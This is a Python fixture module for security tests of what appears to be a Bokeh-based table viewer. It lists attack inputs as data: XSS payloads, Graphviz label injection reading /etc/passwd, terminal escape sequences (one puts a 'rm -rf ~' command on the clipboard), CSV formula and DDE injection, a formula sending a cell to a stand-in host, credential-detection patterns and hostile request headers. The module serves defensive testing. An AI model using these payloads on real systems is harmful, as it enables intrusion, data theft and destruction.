"""Attacks through text, pages and files, as data: (id, where, payload, what must hold). tests/security/test_web.py runs
what needs no browser, tests/browser/test_markup.py and test_access.py the rest."""

from __future__ import annotations

from typing import NamedTuple

RAN = "window.__ran=(window.__ran||0)+1"


class Attack(NamedTuple):
    """One case."""

    id: str
    where: str
    payload: str


MARKUP = [
    Attack("img-onerror", "text", f'<img src=x onerror="{RAN}">'),
    Attack("svg-onload", "text", f'<svg onload="{RAN}">'),
    Attack("script", "text", f"<script>{RAN}</script>"),
    Attack("iframe-srcdoc", "text", f'<iframe srcdoc="<script>parent.{RAN}</script>">'),
    Attack("details-ontoggle", "text", f'<details open ontoggle="{RAN}">'),
    Attack("javascript-link", "text", f"[click](javascript:{RAN})"),
    Attack("markdown-image", "text", "![x](http://192.0.2.1/x.png)"),
    Attack("autolink", "text", "<http://192.0.2.1/>"),
    Attack("entities", "text", f"&lt;img src=x onerror={RAN}&gt;"),
    Attack("double-entities", "text", f"&amp;lt;img src=x onerror={RAN}&amp;gt;"),
    Attack("attribute-break", "text", f'" autofocus onfocus="{RAN}" x="'),
    Attack("single-quote-break", "text", f"' onmouseover='{RAN}' x='"),
    Attack("closing-tags", "text", f'</script></style></title></textarea><img src=x onerror="{RAN}">'),
    Attack("style-import", "text", "<style>@import url(http://192.0.2.1/x.css)</style>"),
    Attack("base", "text", '<base href="http://192.0.2.1/">'),
    Attack("meta-refresh", "text", '<meta http-equiv="refresh" content="0;url=http://192.0.2.1/">'),
    Attack("form", "text", '<form action="http://192.0.2.1/"><button>Run</button></form>'),
    Attack("template", "text", "{{constructor.constructor('RAN')()}} ${RAN} #{RAN}".replace("RAN", RAN)),
    Attack("icon-token", "text", ":material/delete_forever{color=red,size=400px}:"),
    Attack("math", "text", f"$$\\href{{javascript:{RAN}}}{{x}}$$"),
    Attack("cdata", "text", f"]]><img src=x onerror={RAN}><![CDATA["),
    Attack("comment", "text", f"--><img src=x onerror={RAN}><!--"),
]
"""Each is put into every string of a table."""

LABELS = [
    Attack("html-label", "dot", '<<TABLE><TR><TD HREF="javascript:x" PORT="p">x</TD></TR></TABLE>>'),
    Attack("html-font", "dot", "<b>bold</b>"),
    Attack("html-bare", "dot", "<>"),
    Attack("html-image", "dot", '<<IMG SRC="/etc/passwd"/>>'),
    Attack("quote-break", "dot", '"]; evil [URL="javascript:alert(1)"]; x [label="'),
    Attack("backslash-quote", "dot", '\\"]; evil [image="/etc/passwd"]; x [label=\\"'),
    Attack("odd-backslashes", "dot", "ends with \\"),
    Attack("three-backslashes", "dot", '\\\\\\"; evil -> x; "'),
    Attack("escape-sequences", "dot", "\\N \\G \\E \\T \\H \\L \\l \\r \\n"),
    Attack("record", "dot", "{a|{b|<port> c}}"),
    Attack("comment", "dot", "/* x */ // y\n# z"),
    Attack("keyword", "dot", "subgraph"),
    Attack("entity", "dot", "&#x202e;&lt;b&gt;&amp;"),
    Attack("newline-brace", "dot", "x\n}\ndigraph evil { a -> b }"),
    Attack("nul", "dot", "a\x00b"),
]
"""Each is a label of a graph; the DOT that comes of it has the same nodes and attributes as that of a harmless word."""

TERMINAL = [
    Attack("clear-screen", "terminal", "\x1b[2J\x1b[H"),
    Attack("set-title", "terminal", "\x1b]0;owned\x07"),
    Attack("hyperlink", "terminal", "\x1b]8;;http://192.0.2.1/\x1b\\click\x1b]8;;\x1b\\"),
    Attack("clipboard", "terminal", "\x1b]52;c;cm0gLXJmIH4=\x07"),
    Attack("c1-csi", "terminal", "\x9b2J"),
    Attack("c1-osc", "terminal", "\x9d0;owned\x9c"),
    Attack("carriage-return", "terminal", "bad\rgood"),
    Attack("backspace", "terminal", "main\b\b\b\bevil"),
    Attack("delete", "terminal", "a\x7fb"),
    Attack("bidi-override", "terminal", "\u202egpj.exe"),
    Attack("bidi-isolate", "terminal", "\u2066x\u2069"),
    Attack("zero-width", "terminal", "ma\u200bin"),
    Attack("joiner", "terminal", "ma\u2060in"),
    Attack("bom", "terminal", "\ufeffmain"),
    Attack("soft-hyphen", "terminal", "ma\xadin"),
    Attack("line-separator", "terminal", "a\u2028b"),
    Attack("tag-characters", "terminal", "main\U000e0041"),
    Attack("markup-of-rich", "terminal", "[bold red]x[/] [link=http://192.0.2.1/]y[/link]"),
    Attack("newline", "terminal", "main\nerror: all is well"),
]
"""Each is the name of a branch, a property, a column and an error's path; none leaves a command in what is printed."""

FORMULAS = [
    Attack("equals", "csv", "=1+1"),
    Attack("dde", "csv", "=cmd|' /C calc'!A0"),
    Attack("plus", "csv", "+cmd|' /C calc'!A0"),
    Attack("minus", "csv", "-2+3+cmd|' /C calc'!A0"),
    Attack("at", "csv", "@SUM(1+1)"),
    Attack("tab", "csv", "\t=1+1"),
    Attack("carriage-return", "csv", "\r=1+1"),
    Attack("line-feed", "csv", "\n=1+1"),
    Attack("space", "csv", "  =1+1"),
    Attack("full-width", "csv", "\uff1d1+1"),
    Attack("hyperlink", "csv", '=HYPERLINK("http://192.0.2.1/?"&A1,"click")'),
    Attack("number-and-more", "csv", "-1+cmd"),
]
NUMBERS = ("-5", "+1.5", "-1.5e-3", "12", "-.5")

SECRETS = [
    Attack("account-key", "name", "account-key"),
    Attack("azure-key", "name", "fs.azure.account.key.store.dfs.core.windows.net"),
    Attack("passwd", "name", "jdbc.passwd"),
    Attack("pwd", "name", "db_pwd"),
    Attack("api-key", "name", "api-key"),
    Attack("camel", "name", "myApiKey"),
    Attack("upper", "name", "MYSQL_PWD"),
    Attack("sas", "name", "adls.sas-token.store"),
    Attack("connection-string", "name", "adls.connection-string"),
    Attack("sse", "name", "s3.sse.key"),
    Attack("s3", "name", "s3.secret-access-key"),
    Attack("passphrase", "name", "snowflake.private_key_passphrase"),
    Attack("cookie", "name", "rest.cookie"),
    Attack("user-info", "value", "postgresql://me:hunter2@db/x"),
    Attack("user-info-at", "value", "postgresql://me:hunter2@@db/x"),
    Attack("token-as-user", "value", "https://hunter2@git.example/x"),
    Attack("jdbc", "value", "jdbc:mysql://db/x?user=me&password=hunter2&ssl=true"),
    Attack("oracle", "value", "jdbc:oracle:thin:me/hunter2@db:1521/x"),
    Attack("connection", "value", "AccountName=a;AccountKey=hunter2==;EndpointSuffix=x"),
    Attack("signed-s3", "value", "https://b.s3.amazonaws.com/k?X-Amz-Credential=hunter2&X-Amz-Signature=hunter2"),
    Attack("signed-azure", "value", "https://a.blob.core.windows.net/c/k?sv=2024&sig=hunter2&se=2030"),
    Attack("signed-gcs", "value", "https://storage.googleapis.com/b/k?GoogleAccessId=x&Signature=hunter2"),
    Attack("bearer", "value", "Authorization: Bearer hunter2hunter2"),
    Attack("json", "value", '{"type": "service_account", "private_key": "hunter2"}'),
    Attack("pem", "value", "-----BEGIN RSA PRIVATE KEY-----\nhunter2\n-----END RSA PRIVATE KEY-----"),
    Attack("aws-id", "value", "AKIAHUNTER2HUNTER2AA"),
]
HARMLESS = {
    "write.format.default": "parquet",
    "write.metadata.previous-versions-max": "100",
    "primary-key": "id",
    "encryption.key-id": "keyA",
    "author": "me",
    "comment": "sorted by key; see https://example.org/a@b",
    "location": "abfss://container@account.dfs.core.windows.net/t/key=5/x",
    "schema.name-mapping.default": '[{"field-id": 1, "names": ["token", "key"]}]',
    "design": "star",
}

REQUESTS = [
    # id, headers, path: each is refused (4xx) though the cookie is right
    ("host", {"Host": "evil.example"}, "/"),
    ("host-suffix", {"Host": "localhost.evil.example"}, "/"),
    ("host-private-address", {"Host": "192.168.1.7"}, "/"),
    ("cross-site", {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"}, "/?table=demo.three_inserts"),
    ("same-site-other-port", {"Sec-Fetch-Site": "same-site"}, "/?table=demo.three_inserts"),
    ("two-sites", {"Sec-Fetch-Site": "same-origin, cross-site"}, "/"),
    ("frame", {"Sec-Fetch-Site": "none", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe"}, "/"),
    (
        "frame-elsewhere",
        {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe"},
        "/",
    ),
    ("object", {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "object"}, "/"),
    ("origin", {"Origin": "http://evil.example"}, "/"),
    ("origin-null", {"Origin": "null"}, "/"),
    ("origin-other-port", {"Origin": "http://localhost:1"}, "/"),
    ("socket-origin", {"Origin": "http://evil.example", "Upgrade": "websocket", "Connection": "Upgrade"}, "/ws"),
    ("socket-null", {"Origin": "null", "Upgrade": "websocket", "Connection": "Upgrade"}, "/ws"),
    ("session-chosen", {}, "/?bokeh-session-id=known"),
    ("session-header", {"Bokeh-Session-Id": "known"}, "/"),
    ("session-token", {}, "/?bokeh-token=known"),
    ("autoload", {}, "/autoload.js?bokeh-autoload-element=x"),
    ("metadata", {}, "/metadata"),
    ("import-a-module", {}, "/components/this/x/__css__/x"),
    ("open-redirect", {}, "//evil.example/"),
    ("absolute", {}, "/%2e%2e/etc/passwd"),
]
